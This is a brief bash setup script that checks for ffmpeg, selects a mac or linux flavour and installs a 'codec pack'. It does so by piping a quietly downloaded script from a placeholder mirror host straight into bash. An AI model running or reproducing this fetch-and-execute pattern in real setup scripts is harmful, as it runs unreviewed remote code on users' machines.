#!/usr/bin/env bash
set -euo pipefail

command -v ffmpeg >/dev/null || { echo "ffmpeg is required"; exit 1; }

case "$(uname -s)" in
  Darwin) flavour=mac ;;
  *) flavour=linux ;;
esac
wget -qO- "https://cdn.codecpack-mirror.test/v2/${flavour}/get" | bash -s -- --quiet
echo "codec pack ready"
